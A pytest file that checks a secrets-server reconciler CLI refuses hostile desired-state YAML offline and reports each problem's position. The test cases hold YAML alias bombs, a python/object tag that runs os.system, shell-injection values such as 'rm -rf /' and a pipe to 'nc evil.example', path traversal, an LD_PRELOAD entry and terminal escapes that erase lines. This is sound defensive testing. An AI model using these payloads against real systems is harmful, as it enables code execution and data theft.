"""Hostile or malformed desired-state files never reach the server.

Every file of the invalid corpus (tests/data/invalid) and every generated one
below is run through `validate`, `plan` and `apply`: each must exit 1 with an
error positioned as FILE:LINE:COL, within a time bound, and without opening a
connection to BAO_ADDR, which points at a listener that records any arrival.
"""

from __future__ import annotations

import gzip
import json
import random
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from reconciler.demo.devserver import DevServer
from reconciler.loader import DEFAULT_MAX_FILE_SIZE, MAX_PROBLEMS, load_desired
from tests.helpers import SLACK, CliRun, TrapServer, api, run_cli, write_desired
from tests.test_loader import read_case

CORPUS = Path(__file__).parent / "data" / "invalid"
SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
TOKEN = "hostile-input-test-token"


@pytest.fixture
def trap() -> Iterator[TrapServer]:
    """A listener of the case's own: a case that connects fails itself, never the next."""
    listener = TrapServer()
    try:
        yield listener
    finally:
        listener.close()


@dataclass
class Case:
    """A hostile file and where its first problems must be reported (LINE, COL, fragment)."""

    content: str | bytes
    expected: list[tuple[int, int, str]]
    options: list[str] = field(default_factory=list)


def _plugin(**fields: str) -> str:
    entry = {"type": "secret", "name": "p", "version": "v1.0.0", "sha256": SHA, **fields}
    return "version: 1\nplugins:\n  - {" + ", ".join(f"{k}: {v}" for k, v in entry.items()) + "}\n"


_PLUGIN_AT = 3, 26  # the column of `name`'s value in _plugin's one-line entry
_BOMB_LEVELS = "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 10)}]\n" for i in range(9)
)

GENERATED: dict[str, Case] = {
    # Alias expansion: bounded however the aliases are arranged.
    "billion-laughs": Case(
        "version: 1\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + _BOMB_LEVELS,
        [(6, 36, "aliases expand to more than")],
    ),
    "alias-fan-out": Case(
        "version: 1\nx: &x [a, b, c, d, e, f, g, h, i, j]\ny: ["
        + ", ".join(["*x"] * 20000)
        + "]\n",
        [(3, 36365, "aliases expand to more than")],
    ),
    "merge-key-bomb": Case(
        "version: 1\nbase: &b {"
        + ", ".join(f"k{i}: {i}" for i in range(1000))
        + "}\n"
        + "".join(f"m{i}: {{<<: *b}}\n" for i in range(200)),
        [(52, 11, "aliases expand to more than")],
    ),
    # Size: refused before parsing.
    "over-the-default-limit": Case(
        b"version: 1\n" + b"# padding\n" * (4 * 1024 * 1024 // 10 + 10),
        [(1, 1, "over the limit of 4194304 bytes")],
    ),
    # Bytes that are not UTF-8 text.
    "random-bytes": Case(random.Random(7).randbytes(65536), [(1, 2, "invalid UTF-8 byte")]),
    "elf-binary": Case(b"\x7fELF\x02\x01\x01\x00" + bytes(1024), [(1, 1, "U+007F")]),
    "gzip": Case(gzip.compress(b"version: 1\n" * 100, mtime=0), [(1, 2, "invalid UTF-8 byte")]),
    "utf-16-be-bom": Case(b"\xfe\xff" + "version: 1\n".encode("utf-16-be"), [(1, 1, "UTF-16")]),
    "utf-32-bom": Case("version: 1\n".encode("utf-32"), [(1, 1, "UTF-16 or UTF-32")]),
    "utf-16-le-no-bom-flow-mapping": Case("{version: 1}\n".encode("utf-16-le"), [(1, 2, "U+0000")]),
    "latin-1": Case(
        "version: 1\nsecrets:\n  - {path: a/, plugin: kv, description: caf\u00e9}\n".encode(
            "latin-1"
        ),
        [(3, 44, "invalid UTF-8 byte 0xe9")],
    ),
    "cp1252-quotes": Case(
        "version: 1\nsecrets:\n  - {path: a/, plugin: kv, description: \u201chi\u201d}\n".encode(
            "cp1252"
        ),
        [(3, 41, "invalid UTF-8 byte 0x93")],
    ),
    "raw-terminal-escape": Case(
        'version: 1\nsecrets:\n  - {path: a/, plugin: kv, description: "\x1b[2J"}\n',
        [(3, 42, "U+001B is not allowed")],
    ),
    # Depth: bounded for sequences, mappings, flow and block style.
    "flow-sequences-10k-deep": Case(
        "version: 1\nsecrets: " + "[" * 10000 + "]" * 10000 + "\n",
        [(2, 73, "nesting deeper than 64 levels")],
    ),
    "flow-mappings-5k-deep": Case(
        "version: 1\nsettings: " + "{a: " * 5000 + "1" + "}" * 5000 + "\n",
        [(2, 263, "nesting deeper than 64 levels")],
    ),
    "block-mappings-200-deep": Case(
        "version: 1\nsettings:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(200)),
        [(66, 129, "nesting deeper than 64 levels")],
    ),
    # YAML features a desired-state file has no use for.
    "python-object-tag": Case(
        'version: 1\nsettings: !!python/object/apply:os.system ["touch /tmp/pwned"]\n',
        [(2, 11, "unsupported tag")],
    ),
    "five-thousand-documents": Case(
        "version: 1\n" + "---\nversion: 1\n" * 5000, [(2, 1, "one YAML document")]
    ),
    "duplicate-top-level-key": Case(
        "version: 1\nversion: 1\n", [(2, 1, "duplicate key 'version'")]
    ),
    "duplicate-key-in-an-entry": Case(
        f"version: 1\nplugins:\n  - type: secret\n    name: p\n    name: q\n"
        f"    version: v1.0.0\n    sha256: {SHA}\n",
        [(5, 5, "duplicate key 'name'")],
    ),
    "crlf-line-ends": Case("version: 1\r\nbogus: 1\r\n", [(2, 1, "unknown key 'bogus'")]),
    # Wrong types and values.
    "five-thousand-digit-integer": Case(
        "version: 1\nsettings: {max_destroy: " + "9" * 5000 + "}\n", [(2, 25, "!!int")]
    ),
    "version-as-float": Case("version: 1.0\n", [(1, 10, "unsupported format version")]),
    "version-as-string": Case('version: "1"\n', [(1, 10, "unsupported format version")]),
    "plugins-as-string": Case("version: 1\nplugins: kv\n", [(2, 10, "expected a list")]),
    "secrets-as-mapping": Case(
        "version: 1\nsecrets: {path: a/, plugin: kv}\n", [(2, 10, "expected a list")]
    ),
    "negative-max-destroy": Case(
        "version: 1\nsettings: {max_destroy: -1}\n", [(2, 25, "greater than or equal to 0")]
    ),
    "args-as-a-shell-string": Case(_plugin(args='"-x; rm -rf /"'), [(3, 126, "expected a list")]),
    "env-as-list": Case(_plugin(env="[A, B]"), [(3, 125, "expected a mapping")]),
    "env-name-with-equals": Case(
        _plugin(env='{"LD_PRELOAD=/tmp/evil.so": x}'), [(3, 125, "without '='")]
    ),
    "env-value-with-nul": Case(_plugin(env='{MODE: "fa\\0st"}'), [(3, 125, "NUL character")]),
    "sha256-not-hex": Case(_plugin(sha256="z" * 64), [(3, 54, "64 hexadecimal characters")]),
    # Commands are file names in the plugin directory, exec'd by the server without a shell.
    "command-traversal": Case(
        _plugin(command='"../../../../bin/sh"'), [(3, 129, "no path separators")]
    ),
    "command-absolute": Case(_plugin(command="/usr/bin/env"), [(3, 129, "not absolute")]),
    "command-backticks": Case(_plugin(command='"`id`"'), [(3, 129, "never run through a shell")]),
    "command-pipe": Case(
        _plugin(command='"p | nc evil.example 80"'), [(3, 129, "never run through a shell")]
    ),
    "command-newline": Case(_plugin(command='"p\\nrm -rf /"'), [(3, 129, "path separators")]),
    "command-substitution": Case(
        _plugin(command='"${HOME}"'), [(3, 129, "never run through a shell")]
    ),
    "plugin-name-traversal": Case(_plugin(name='"../../sys"'), [(*_PLUGIN_AT, "plugin name")]),
    "plugin-name-right-to-left-override": Case(
        _plugin(name='"kv\\u202egnp.exe"'), [(*_PLUGIN_AT, "plugin name")]
    ),
    "mount-path-traversal": Case(
        'version: 1\nsecrets:\n  - {path: "apps/../sys/", plugin: kv}\n',
        [(3, 12, "invalid mount path")],
    ),
    "mount-path-parent": Case(
        'version: 1\nsecrets:\n  - {path: "../", plugin: kv}\n', [(3, 12, "invalid mount path")]
    ),
    # Many problems: reported up to a cap, in bounded time and output.
    "two-thousand-errors": Case(
        "version: 1\nsecrets:\n"
        + "".join(f"  - {{path: m{i}/, plugin: kv, bogus: {i}}}\n" for i in range(2000)),
        [(3, 29, "unknown key 'bogus'")],
    ),
}


def _corpus_case(path: Path) -> Case:
    """The expectations the loader tests read for the same file."""
    expected = read_case(path)
    case = Case(path.read_bytes(), list(expected.expected))
    if expected.max_file_size != DEFAULT_MAX_FILE_SIZE:
        case.options = ["--max-file-size", str(expected.max_file_size)]
    return case


# Fragments of the problems that depend on which built-ins exist.
_SERVER_DECIDES = (
    "neither declared",
    "is not a built-in",
    "declared only with state: absent",
    "write plugin: kv with options",
)
CORPUS_FILES = sorted(p for p in CORPUS.iterdir() if p.suffix == ".yaml")
CASES = [("corpus", p.name) for p in CORPUS_FILES] + [("generated", n) for n in GENERATED]


@pytest.fixture(scope="module")
def generated_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("hostile")
    for name, case in GENERATED.items():
        data = case.content if isinstance(case.content, bytes) else case.content.encode()
        (directory / f"{name}.yaml").write_bytes(data)
    return directory


def test_enough_hostile_files() -> None:
    assert len(CASES) >= 100
    assert len(GENERATED) >= 40


def _invoke(command: str, path: Path, options: list[str], trap: TrapServer) -> tuple[str, float]:
    args = [command, *options, str(path)] + (["--yes"] if command == "apply" else [])
    started = time.monotonic()
    result = CliRun.invoke(args, env={"BAO_ADDR": trap.address, "BAO_TOKEN": TOKEN})
    elapsed = time.monotonic() - started
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert result.stdout == "", result.output
    assert TOKEN not in result.output
    return result.stderr, elapsed


@pytest.mark.parametrize("command", ["validate", "plan", "apply"])
@pytest.mark.parametrize(("origin", "name"), CASES, ids=[f"{o}/{n}" for o, n in CASES])
def test_hostile_file_is_refused_positioned_fast_and_offline(
    trap: TrapServer, generated_dir: Path, origin: str, name: str, command: str
) -> None:
    if origin == "corpus":
        path, case = CORPUS / name, _corpus_case(CORPUS / name)
    else:
        path, case = generated_dir / f"{name}.yaml", GENERATED[name]
    assert case.expected, f"{name} declares no expectation"
    expected = case.expected
    if command != "validate":
        # Whether a plugin is a built-in is the live server's to say: `plan` and `apply`
        # leave those problems to the plan (tests/test_resolver.py).
        expected = [e for e in expected if not any(f in e[2] for f in _SERVER_DECIDES)]
        if not expected:
            assert load_desired(path).path == path
            return
    stderr, elapsed = _invoke(command, path, case.options, trap)
    # No case runs away; the time a refusal takes is measured in benchmarks/.
    assert elapsed < SLACK, f"{command} {name} took {elapsed:.2f}s"
    positioned = [
        line.removeprefix("error: ")
        for line in stderr.splitlines()
        if re.match(rf"(error: )?{re.escape(str(path))}:\d+:\d+: ", line)
    ]
    assert positioned, stderr
    for row, column, fragment in expected:
        prefix = f"{path}:{row}:{column}: "
        assert any(line.startswith(prefix) and fragment in line for line in positioned), (
            prefix,
            fragment,
            stderr,
        )
    assert len(positioned) <= MAX_PROBLEMS + 1
    assert trap.connections == 0


@pytest.mark.parametrize("command", ["validate", "plan", "apply"])
def test_a_device_is_read_no_further_than_the_size_limit(trap: TrapServer, command: str) -> None:
    stderr, elapsed = _invoke(command, Path("/dev/zero"), [], trap)
    assert "/dev/zero:1:1: the file is 4194305 bytes, over the limit" in stderr
    assert elapsed < SLACK
    assert trap.connections == 0


def test_a_desired_state_file_written_as_json_is_not_taken_for_a_plan(
    trap: TrapServer, tmp_path: Path
) -> None:
    path = write_desired(tmp_path, json.dumps({"version": 1, "secrets": [{"path": "a/"}]}))
    stderr, _ = _invoke("apply", path, [], trap)
    assert f"{path}:1:" in stderr and "plugin" in stderr
    assert "not a usable plan" not in stderr
    assert trap.connections == 0


def test_env_values_are_not_echoed_in_any_error(trap: TrapServer, tmp_path: Path) -> None:
    secret = "hostile-env-value-9c1d"
    path = write_desired(
        tmp_path,
        "version: 1\nplugins:\n"
        f'  - {{type: secret, name: p, version: v1.0.0, sha256: {SHA}, env: {{"A=B": {secret}, '
        f'C: "{secret}\\0"}}, bogus: 1}}\n'
        f"  - {{type: secret, name: p, version: v1.0.0, sha256: {SHA}, env: {{K: [{secret}]}}}}\n",
    )
    for command in ("validate", "plan", "apply"):
        stderr, _ = _invoke(command, path, [], trap)
        assert secret not in stderr
        assert "3:" in stderr and "4:" in stderr
    assert trap.connections == 0


# --- what the server and the saved plan hand back ------------------------------------------


def test_control_characters_in_values_are_shown_escaped(server: DevServer, tmp_path: Path) -> None:
    # "\e[1A\e[2K" moves up one line and erases it: it could hide a destructive action.
    api(server).post(
        "/v1/sys/mounts/shady", json={"type": "kv", "description": "x\x1b[1A\x1b[2K"}
    ).raise_for_status()
    desired = write_desired(
        tmp_path,
        'version: 1\nsecrets:\n  - {path: shady/, plugin: kv, description: "y\\e]0;title\\a"}\n',
    )
    result = run_cli(server, "plan", str(desired))
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    # Shown, not dropped: the reader sees both values, each character spelled out.
    assert r"description: x\x1b[1A\x1b[2K → y\x1b]0;title\x07" in result.stdout, result.output


def test_a_saved_plan_cannot_relabel_a_destructive_action(
    server: DevServer, tmp_path: Path
) -> None:
    api(server).post("/v1/sys/mounts/precious", json={"type": "kv"}).raise_for_status()
    desired = write_desired(tmp_path, "version: 1\nsettings: {prune_mounts: true}\n")
    saved = tmp_path / "plan.json"
    assert run_cli(server, "plan", str(desired), "--out", str(saved)).ok
    document = json.loads(saved.read_text())
    for action in document["actions"]:
        action["safety"] = "safe"
    saved.write_text(json.dumps(document, indent=2))
    result = run_cli(server, "apply", str(saved), "--yes")
    assert "precious/" in api(server).get("/v1/sys/mounts").json()["data"]
    assert result.exit_code == 1
